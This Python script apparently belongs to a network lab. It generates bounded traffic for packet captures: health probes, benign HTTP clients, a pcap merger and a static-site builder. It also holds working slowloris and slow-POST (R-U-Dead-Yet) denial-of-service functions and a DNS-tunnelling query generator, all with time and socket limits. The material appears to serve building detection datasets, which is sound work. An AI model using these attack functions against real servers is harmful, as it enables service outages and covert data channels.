#!/usr/bin/env python3
"""Bounded traffic helpers of extra-pcaps.sh (stdlib only).

Every subcommand stops by itself: each has a deadline and a bounded number of
sockets, probes or queries, and extra-pcaps.sh runs each under `timeout` too.
They only run inside olab-* network namespaces, against the addresses given on
the command line.  The shared lab's labtools.py (LAB_DIR, default
../../../../shared/lab beside this file) is reused for its DNS query encoder.

  probes     HOST SECS SEED UA SPEC...          kubelet-like health probes
             SPEC = http:PORT:PATH@PERIOD | tcp:PORT@PERIOD
  slowloris  HOST PORT CONNS SECS INTERVAL RAMP SEED
             partial requests opened over RAMP s, a random header line every
             INTERVAL s (jittered) on each until SECS
  slowpost   HOST PORT PATH CONNS SECS INTERVAL CHUNK CLEN SEED
             R-U-Dead-Yet: POST with Content-Length CLEN, CHUNK body bytes every
             INTERVAL s per connection until SECS
  dnstunnel  SERVER DOMAIN N ENC LABELLEN NLABELS QTYPE SLEEP_MS SEED PER_SOCK
             ENC = hex | b64url | b32
  pcapmerge  OUT IN...                           merge per-port captures by time,
             dropping the extra copies of flooded broadcast/multicast frames
  site       ROOT SEED FORBIDDEN_DIR AUTH_DIR API_PREFIX API_IDS API_HIT_PCT ROBOTS POSTS IMAGES
             the static site of benign_http_errors (pages, assets, an unreadable
             directory, an unreadable file, a Basic-auth area, API objects)
  webclient  KIND HOST PORT N SECS SEED KEY=VALUE...
             benign HTTP clients of that site that meet many 403/404 answers:
             KIND = browser | crawler | poller | api | login (see webclient())
"""
import base64
import hashlib
import heapq
import http.client
import os
import random
import select
import socket
import struct
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
LAB_DIR = os.environ.get("LAB_DIR") or os.path.join(HERE, "..", "..", "..", "..", "shared", "lab")
MAX_SOCKS = 1000


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def hosthdr(host, port):
    h = f"[{host}]" if ":" in host else host
    return h if int(port) == 80 else f"{h}:{port}"


# ---------------------------------------------------------------- health probes
def probes(host, secs, seed, ua, *specs):
    """Each probe fires every PERIOD s from a random phase until SECS, like a kubelet:
    an HTTP probe is a fresh connection with one GET and Connection: close; a TCP probe
    opens the connection and closes it at once.  At most 2000 probes in all."""
    rnd = random.Random(int(seed))
    deadline = time.time() + float(secs)
    heap = []
    for i, spec in enumerate(specs):
        body, period = spec.rsplit("@", 1)
        heapq.heappush(heap, (time.time() + rnd.uniform(0, float(period)), i, body, float(period)))
    n = 0
    while heap and n < 2000:
        due, i, body, period = heapq.heappop(heap)
        if due > deadline:
            break
        time.sleep(max(0.0, due - time.time()))
        n += 1
        parts = body.split(":", 2)
        try:
            s = socket.create_connection((host, int(parts[1])), timeout=1.0)
            if parts[0] == "http":
                s.sendall((f"GET {parts[2]} HTTP/1.1\r\nHost: {hosthdr(host, parts[1])}\r\n"
                           f"User-Agent: {ua}\r\nAccept: */*\r\nConnection: close\r\n\r\n").encode())
                while s.recv(4096):
                    pass
            s.close()
        except OSError:
            pass
        heapq.heappush(heap, (due + period, i, body, period))


# ---------------------------------------------------------------- slowloris (ramp)
HDR_NAMES = ["X-a", "X-Requested-With", "Cookie", "Accept-Encoding", "X-Forwarded-For",
             "Cache-Control", "Referer", "X-Trace"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_4)", "curl/7.88.1", "python-requests/2.31"]


def slowloris(host, port, conns, secs, interval, ramp, seed):
    rnd = random.Random(int(seed))
    start = time.time()
    deadline = start + float(secs)
    conns = min(int(conns), MAX_SOCKS)
    gap = float(ramp) / max(1, conns)
    socks = []       # [socket, next send time]
    opened = 0
    while time.time() < deadline:
        now = time.time()
        while opened < conns and now >= start + opened * gap:
            opened += 1
            try:
                s = socket.socket(family(host), socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect((host, int(port)))
                s.sendall((f"GET /{rnd.choice(['', 'index.html', 'search'])}?q={rnd.randrange(10**7)} "
                           f"HTTP/1.1\r\nHost: {hosthdr(host, port)}\r\nUser-Agent: {rnd.choice(UAS)}\r\n"
                           "Accept-language: en-US,en;q=0.5\r\n").encode())
                socks.append([s, now + float(interval) * rnd.uniform(0.5, 1.5)])
            except OSError:
                pass
        for e in list(socks):
            if now >= e[1]:
                try:
                    e[0].sendall(f"{rnd.choice(HDR_NAMES)}: {rnd.randrange(1, 99999)}\r\n".encode())
                    e[1] = now + float(interval) * rnd.uniform(0.5, 1.5)
                except OSError:
                    socks.remove(e)
        time.sleep(0.02)
    for e in socks:
        try:
            e[0].close()
        except OSError:
            pass


# ---------------------------------------------------------------- slow POST (RUDY)
def slowpost(host, port, path, conns, secs, interval, chunk, clen, seed):
    rnd = random.Random(int(seed))
    deadline = time.time() + float(secs)
    conns = min(int(conns), MAX_SOCKS)
    socks = []
    for _ in range(conns):
        if time.time() > deadline:
            break
        try:
            s = socket.socket(family(host), socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect((host, int(port)))
            s.sendall((f"POST {path} HTTP/1.1\r\nHost: {hosthdr(host, port)}\r\n"
                       f"User-Agent: {rnd.choice(UAS)}\r\n"
                       "Content-Type: application/x-www-form-urlencoded\r\n"
                       f"Content-Length: {int(clen)}\r\nConnection: keep-alive\r\n\r\n"
                       "comment=").encode())
            socks.append(s)
        except OSError:
            pass
        time.sleep(rnd.uniform(0.005, 0.03))
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    while time.time() < deadline:
        time.sleep(min(float(interval), max(0.0, deadline - time.time())))
        for s in list(socks):
            try:
                s.sendall("".join(rnd.choice(alphabet) for _ in range(int(chunk))).encode())
            except OSError:
                socks.remove(s)
    for s in socks:
        try:
            s.close()
        except OSError:
            pass


# ---------------------------------------------------------------- DNS tunnel
def encode(data, enc):
    if enc == "hex":
        return data.hex()
    if enc == "b64url":
        return base64.urlsafe_b64encode(data).decode().rstrip("=")
    if enc == "b32":
        return base64.b32encode(data).decode().rstrip("=").lower()
    raise SystemExit(f"unknown encoding {enc}")


def dnstunnel(server, domain, n, enc, labellen, nlabels, qtype, sleep_ms, seed, per_sock):
    sys.path.insert(0, LAB_DIR)
    import labtools           # the shared lab's query encoder and paced sender
    rnd = random.Random(int(seed))
    random.seed(int(seed) + 1)
    labellen, nlabels = int(labellen), int(nlabels)
    need = labellen * nlabels
    queries = []
    for i in range(int(n)):
        text = ""
        while len(text) < need:
            text += encode(bytes(rnd.randrange(256) for _ in range(need)), enc)
        text = text[:need]
        labels = [text[k * labellen:(k + 1) * labellen] for k in range(nlabels)]
        name = ".".join(labels + [f"{i:x}", domain])
        if len(name) > 253:
            raise SystemExit(f"name too long ({len(name)})")
        queries.append((name, qtype))
    labtools.send_queries(server, queries, float(sleep_ms), time.time() + 300, int(per_sock))


# ---------------------------------------------------------------- pcap merge
def read_records(path, idx):
    with open(path, "rb") as f:
        gh = f.read(24)
        if len(gh) < 24:
            return
        endian = "<" if struct.unpack("<I", gh[:4])[0] in (0xa1b2c3d4, 0xa1b23c4d) else ">"
        nano = struct.unpack(endian + "I", gh[:4])[0] == 0xa1b23c4d
        rh = struct.Struct(endian + "IIII")
        while True:
            h = f.read(16)
            if len(h) < 16:
                return
            sec, frac, incl, orig = rh.unpack(h)
            data = f.read(incl)
            yield (sec + frac / (1e9 if nano else 1e6), idx, endian, h, data)


def pcapmerge(out, *inputs):
    """Merge captures of several switch ports into one, in time order.  A unicast frame
    crosses one server-facing port only (the servers never talk to each other), so it is
    in one input; a broadcast or multicast frame is flooded to every port, so it is in
    several: only its first copy is kept (same bytes within 0.5 s)."""
    inputs = [p for p in inputs if os.path.getsize(p) >= 24]
    if not inputs:
        raise SystemExit("pcapmerge: no input")
    with open(inputs[0], "rb") as f:
        gh = f.read(24)
    endian = "<" if struct.unpack("<I", gh[:4])[0] in (0xa1b2c3d4, 0xa1b23c4d) else ">"
    seen = {}
    kept = dropped = 0
    with open(out, "wb") as w:
        w.write(gh)
        for ts, idx, e, h, data in heapq.merge(*(read_records(p, i) for i, p in enumerate(inputs))):
            if e != endian:
                raise SystemExit("pcapmerge: inputs of different byte order")
            if data and data[0] & 1:               # group-addressed destination MAC
                key = hashlib.sha1(data).digest()
                last = seen.get(key)
                if last is not None and last[1] != idx and ts - last[0] <= 0.5:
                    dropped += 1
                    continue
                seen[key] = (ts, idx)
                if len(seen) > 100000:
                    seen = {k: v for k, v in seen.items() if ts - v[0] <= 0.5}
            w.write(h)
            w.write(data)
            kept += 1
    print(f"{kept} {dropped}")


# ---------------------------------------------------------------- benign HTTP errors
# The site of benign_http_errors.  site() writes it under nginx's root, and webclient()
# asks for its paths and for paths that are not there, as real clients do.
SITE_PAGES = ["/", "/about.html", "/contact.html", "/products.html", "/docs/",
              "/docs/guide.html", "/docs/faq.html", "/news/"]
SITE_ASSETS = ["/css/site.css", "/css/print.css", "/js/site.js", "/js/vendor.js",
               "/img/logo.png", "/fonts/site.woff2"]
# referenced but absent: 404 from the file system
MISSING_ASSETS = ["/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
                  "/css/site.css.map", "/js/site.js.map", "/js/vendor.js.map",
                  "/img/banner-2019.jpg", "/fonts/site-old.woff", "/css/theme-dark.css"]
MISSING_PAGES = ["/docs/v1/guide.html", "/products/discontinued.html", "/about-us.html",
                 "/events.html", "/news/archive.html", "/sitemap.xml", "/docs/faq-old.html"]
# directories without an index (autoindex is off: 403) and a file nginx cannot read (403)
LISTING_DIRS = ["/files/", "/img/", "/docs/archive/"]
UNREADABLE_FILE = "/docs/internal.pdf"
# inside the unreadable directory (every path under it: 403)
FORBIDDEN_PAGES = ["", "index.html", "report.html", "q3/summary.html"]
FORBIDDEN_ASSETS = ["css/style.css", "js/main.js", "js/vendor.js", "img/banner.jpg",
                    "fonts/corp.woff2"] + [f"img/chart-{k}.png" for k in range(1, 25)]
AUTH_PAGES = ["", "roster.html", "notes.html", "calendar.html"]
AUTH_ASSETS = ["css/team.css", "img/avatar-1.png", "img/avatar-2.png"]
BROWSER_UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
               "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
               "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"]
CRAWLER_UAS = ["LinkChecker/10.2.1", "W3C-checklink/4.81 libwww-perl/6.68", "Wget/1.21.3",
               "Mozilla/5.0 (compatible; SiteAuditBot/1.4)"]
POLLER_UAS = ["curl/7.88.1", "Prometheus/2.45.0", "Zabbix", "Go-http-client/1.1"]
API_UAS = ["python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1", "axios/1.6.2"]


def site(root, seed, forbidden_dir, auth_dir, api_prefix, api_ids, api_hit_pct, robots,
         posts, images):
    rnd = random.Random(int(seed))

    def put(path, size, mode=0o644):
        full = os.path.join(root, path.lstrip("/"))
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(base64.b64encode(rnd.randbytes(int(size) * 3 // 4 + 1))[:int(size)])
        os.chmod(full, mode)

    for pg in SITE_PAGES[1:]:            # "/" is the lab's own index.html
        put(pg + ("index.html" if pg.endswith("/") else ""), rnd.randrange(2000, 30000))
    for k in range(1, int(posts) + 1):
        put(f"/news/2024/post-{k}.html", rnd.randrange(3000, 20000))
    for a in SITE_ASSETS:
        put(a, rnd.randrange(5000, 120000))
    for k in range(1, int(images) + 1):
        put(f"/img/photo-{k}.jpg", rnd.randrange(8000, 150000))
    put("/docs/archive/2019-notes.txt", rnd.randrange(500, 4000))
    put(UNREADABLE_FILE, rnd.randrange(20000, 90000), 0o600)       # root's, 600: 403
    for f in FORBIDDEN_PAGES[1:] + FORBIDDEN_ASSETS:
        put(forbidden_dir + f, rnd.randrange(2000, 60000))
    put(forbidden_dir + "status.json", 200)
    os.chmod(os.path.join(root, forbidden_dir.strip("/")), 0o700)  # root's, 700: 403
    for f in AUTH_PAGES + AUTH_ASSETS:
        put(auth_dir + (f or "index.html"), rnd.randrange(1500, 25000))
    for i in range(1, int(api_ids) + 1):
        if rnd.randrange(100) < int(api_hit_pct):
            full = os.path.join(root, api_prefix.strip("/"), f"{i}.json")
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "w") as f:
                f.write('{"id":%d,"name":"item-%d","qty":%d}\n' % (i, i, rnd.randrange(1000)))
    if int(robots):
        with open(os.path.join(root, "robots.txt"), "w") as f:
            f.write(f"User-agent: *\nDisallow: {forbidden_dir}\nDisallow: {auth_dir}\n")


class HttpConn:
    """One HTTP/1.1 client connection.  keepalive: reused across requests (a connection
    that the server has closed meanwhile is noticed before use and replaced, as browsers
    do); otherwise one connection per request, closed by the client after the answer, with
    "Connection: close" if close_hdr."""

    def __init__(self, host, port, ua, keepalive, close_hdr, counts):
        self.host = host             # an IPv6 literal without brackets (http.client adds them to Host:)
        self.port, self.ua, self.keepalive, self.close_hdr = int(port), ua, keepalive, close_hdr
        self.conn = None
        self.counts = counts

    def request(self, method, path, headers=None, body=None):
        hdrs = {"User-Agent": self.ua, "Accept": "*/*"}
        hdrs.update(headers or {})
        if not self.keepalive and self.close_hdr:
            hdrs["Connection"] = "close"
        if self.conn is not None and self.conn.sock is not None:
            try:
                if select.select([self.conn.sock], [], [], 0)[0]:   # closed by the server
                    self.close()
            except (OSError, ValueError):
                self.close()
        status = etag = None
        for attempt in (0, 1):
            if self.conn is None:
                self.conn = http.client.HTTPConnection(self.host, self.port, timeout=5)
            try:
                self.conn.request(method, path, body=body, headers=hdrs)
                resp = self.conn.getresponse()
                resp.read()
                status, etag = resp.status, resp.getheader("ETag")
                break
            except (http.client.HTTPException, OSError):
                self.close()
                if attempt:
                    break
        if not self.keepalive:
            self.close()
        with COUNT_LOCK:
            self.counts[status] = self.counts.get(status, 0) + 1
        return status, etag

    def close(self):
        if self.conn is not None:
            self.conn.close()
        self.conn = None


COUNT_LOCK = threading.Lock()


def webclient(kind, host, port, n, secs, seed, *kv):
    """Benign HTTP clients that meet many 403 and 404 answers (and a few 401), each
    bounded by N (page loads, URLs, polls, requests or login sessions) and SECS.  KEY=VALUE
    options (strings from extraparams.py):
      browser  conns burst=LO-HI spread_ms think_ms missing_pct deploy_broken_pct
               broken_link_pct favicon_pct post_pct forbidden_dir gone_prefix posts images
               deny_path: page loads; each gets the page over the first of CONNS keep-alive
               connections, then LO..HI distinct subresources spread over SPREAD_MS on all of them
               (a burst), then pauses THINK_MS (x0.3..1.7).  Assets already fetched are
               asked for again with If-None-Match (304).  A page load may follow a broken
               link (404, or 403 in the unreadable directory), load a page whose assets are
               in the unreadable directory (a storm of 403), ask for missing assets (404)
               and /favicon.ico (404), or POST a form (200).
      crawler  delay_ms head_pct keepalive close_hdr broken_pct + the site keys: robots.txt,
               then N links of the site (BROKEN_PCT % broken: 404 or 403), HEAD or GET,
               DELAY_MS (x0.5..1.5) apart
      poller   interval_ms paths=BROKEN[|OK] keepalive close_hdr: N polls of a forbidden
               or missing URL (and of a working one) every INTERVAL_MS (+-10 %)
      api      prefix sleep_ms keepalive close_hdr head_pct post_pct batch ids: N lookups
               of PREFIX/<id> (absent ids: 404), HEAD or GET, some POST PREFIX (200);
               SLEEP_MS (x0.4..1.6) apart, sometimes BATCH lookups back to back
      login    auth_dir user password typing_ms after two_typos_pct: N sessions of a
               browser user: the area without credentials (401), a mistyped password
               (401; twice in TWO_TYPOS_PCT %), TYPING_MS (x0.5..1.5) apart, then the
               right one (200) and AFTER more pages and assets, over one keep-alive
               connection
    Prints the count of each status (None: no answer) to stdout."""
    rnd = random.Random(int(seed))
    o = dict(x.split("=", 1) for x in kv)
    oi = lambda k, d=0: int(o.get(k, d))
    n, deadline = int(n), time.time() + float(secs)
    counts = {}
    fdir, gone = o.get("forbidden_dir", "/private/"), o.get("gone_prefix", "/old/")
    posts, images = oi("posts", 10), oi("images", 10)

    def broken_link():
        k = rnd.randrange(10)
        if k < 4:
            return rnd.choice(MISSING_PAGES + [f"/news/2024/post-{posts + rnd.randrange(1, 30)}.html"])
        if k < 6:
            return fdir + rnd.choice(FORBIDDEN_PAGES)
        if k < 7:
            return rnd.choice(LISTING_DIRS + [UNREADABLE_FILE])
        if k < 9:
            return gone + rnd.choice(["index.html", "2019/05/notes.html", "feed.xml", "downloads.html"])
        return f"/img/photo-{images + rnd.randrange(1, 20)}.jpg"

    def good_link():
        k = rnd.randrange(10)
        if k < 4:
            return rnd.choice(SITE_PAGES)
        if k < 7:
            return f"/news/2024/post-{rnd.randrange(1, posts + 1)}.html"
        if k < 9:
            return f"/img/photo-{rnd.randrange(1, images + 1)}.jpg"
        return rnd.choice(SITE_ASSETS)

    def pause(ms, lo, hi):
        time.sleep(max(0.0, min(ms / 1000.0 * rnd.uniform(lo, hi), deadline - time.time())))

    if kind == "browser":
        ua = rnd.choice(BROWSER_UAS)
        pool = [HttpConn(host, port, ua, True, False, counts) for _ in range(max(1, oi("conns", 4)))]
        lo, hi = (int(x) for x in o.get("burst", "5-20").split("-"))
        cache = {}
        nav = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.7"}
        for i in range(n):
            if time.time() >= deadline:
                break
            r = rnd.randrange(100)
            subs = []
            if r < oi("broken_link_pct"):                   # a broken link: the error page only
                pool[0].request("GET", broken_link(), nav)
            else:
                deploy = r < oi("broken_link_pct") + oi("deploy_broken_pct")
                page = rnd.choice(SITE_PAGES[1:] + [f"/news/2024/post-{rnd.randrange(1, posts + 1)}.html"])
                pool[0].request("GET", page, nav)
                want = rnd.randrange(lo, hi + 1)
                for _ in range(10 * want):                   # distinct subresources
                    if len(subs) >= want:
                        break
                    if deploy and rnd.random() < 0.85:
                        u = fdir + rnd.choice(FORBIDDEN_ASSETS)
                    elif rnd.randrange(100) < oi("missing_pct"):
                        u = rnd.choice(MISSING_ASSETS + [f"/img/photo-{images + rnd.randrange(1, 20)}.jpg"])
                    elif rnd.random() < 0.5:
                        u = rnd.choice(SITE_ASSETS)
                    else:
                        u = f"/img/photo-{rnd.randrange(1, images + 1)}.jpg"
                    if u not in subs:
                        subs.append(u)
            if rnd.randrange(100) < oi("favicon_pct"):
                subs.append("/favicon.ico")
            # the burst: each path at a random moment within SPREAD_MS, on the pool's connections
            t0 = time.time()
            plan = sorted((rnd.uniform(0, oi("spread_ms", 300) / 1000.0), s) for s in subs)
            queues = [plan[k::len(pool)] for k in range(len(pool))]

            def run(c, q):
                for at, s in q:
                    time.sleep(max(0.0, t0 + at - time.time()))
                    h = {"If-None-Match": cache[s]} if s in cache else {}
                    st, et = c.request("GET", s, h)
                    if st == 200 and et:
                        cache[s] = et
            ths = [threading.Thread(target=run, args=(c, q)) for c, q in zip(pool, queues) if q]
            for t in ths:
                t.start()
            for t in ths:
                t.join()
            if rnd.randrange(100) < oi("post_pct"):          # a search or feedback form
                pause(4000, 0.3, 1.5)
                body = f"q={rnd.choice(['pricing', 'manual', 'contact', 'release notes'])}&page=1".encode()
                pool[0].request("POST", rnd.choice(["/submit/search", "/submit/feedback"]),
                                {"Content-Type": "application/x-www-form-urlencoded"}, body)
            pause(oi("think_ms", 3000), 0.3, 1.7)
        for c in pool:
            c.close()
    elif kind == "crawler":
        c = HttpConn(host, port, rnd.choice(CRAWLER_UAS), oi("keepalive") == 1, oi("close_hdr") == 1, counts)
        c.request("GET", "/robots.txt")
        c.request("GET", "/")
        seen = set()
        for i in range(n):
            if time.time() >= deadline:
                break
            for _ in range(20):                             # prefer links not checked yet
                u = broken_link() if rnd.randrange(100) < oi("broken_pct") else good_link()
                if u not in seen:
                    break
            seen.add(u)
            c.request("HEAD" if rnd.randrange(100) < oi("head_pct") else "GET", u)
            pause(oi("delay_ms", 500), 0.5, 1.5)
        c.close()
    elif kind == "poller":
        paths = o.get("paths", "/status.json").split("|")
        c = HttpConn(host, port, rnd.choice(POLLER_UAS), oi("keepalive") == 1, oi("close_hdr") == 1, counts)
        time.sleep(rnd.uniform(0, oi("interval_ms", 2000) / 1000.0))
        for i in range(n):
            if time.time() >= deadline:
                break
            for pth in paths:
                c.request("GET", pth)
            pause(oi("interval_ms", 2000), 0.9, 1.1)
        c.close()
    elif kind == "api":
        prefix = o.get("prefix", "/v1/objects")
        c = HttpConn(host, port, rnd.choice(API_UAS), oi("keepalive") == 1, oi("close_hdr") == 1, counts)
        js = {"Accept": "application/json"}
        batch = 0
        for i in range(n):
            if time.time() >= deadline:
                break
            r = rnd.randrange(100)
            if r < oi("post_pct"):
                body = ('{"name":"item-%d","qty":%d}' % (rnd.randrange(10**6), rnd.randrange(100))).encode()
                c.request("POST", prefix, dict(js, **{"Content-Type": "application/json"}), body)
            else:
                c.request("HEAD" if r < oi("post_pct") + oi("head_pct") else "GET",
                          f"{prefix}/{rnd.randrange(1, oi('ids', 1000) + 1)}", js)
            if batch > 0:
                batch -= 1
                continue
            if oi("batch") and rnd.random() < 0.1:
                batch = rnd.randrange(oi("batch") // 2 + 1, oi("batch") + 1)
            pause(oi("sleep_ms", 300), 0.4, 1.6)
        c.close()
    elif kind == "login":
        area, user, pw = o["auth_dir"], o["user"], o["password"]
        ua = rnd.choice(BROWSER_UAS)
        nav = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}

        def auth(p):
            return dict(nav, Authorization="Basic " + base64.b64encode(f"{user}:{p}".encode()).decode())
        for i in range(n):
            if time.time() >= deadline:
                break
            c = HttpConn(host, port, ua, True, False, counts)
            c.request("GET", area, nav)                      # no credentials yet: 401
            typos = 2 if rnd.randrange(100) < oi("two_typos_pct") else 1
            for _ in range(typos):
                pause(oi("typing_ms", 3000), 0.5, 1.5)
                k = rnd.randrange(len(pw))
                wrong = pw[:k] + rnd.choice([c2 for c2 in "abcdefghijklmnopqrstuvwxyz0123456789" if c2 != pw[k]]) + pw[k + 1:]
                c.request("GET", area, auth(wrong))           # mistyped: 401
            pause(oi("typing_ms", 3000), 0.5, 1.5)
            c.request("GET", area, auth(pw))                  # 200
            for a in AUTH_ASSETS[:rnd.randrange(1, len(AUTH_ASSETS) + 1)]:
                c.request("GET", area + a, auth(pw))
            for _ in range(oi("after", 4)):
                if time.time() >= deadline:
                    break
                pause(2500, 0.2, 1.6)
                c.request("GET", area + rnd.choice(AUTH_PAGES), auth(pw))
            c.close()
            pause(6000, 0.5, 1.5)
    else:
        raise SystemExit(f"unknown webclient kind {kind}")
    print(" ".join(f"{k}:{v}" for k, v in sorted(counts.items(), key=lambda kv: str(kv[0]))))


def main():
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    cmd, args = sys.argv[1], sys.argv[2:]
    fn = {"probes": probes, "slowloris": slowloris, "slowpost": slowpost,
          "dnstunnel": dnstunnel, "pcapmerge": pcapmerge, "site": site,
          "webclient": webclient}[cmd]
    fn(*args)


if __name__ == "__main__":
    main()
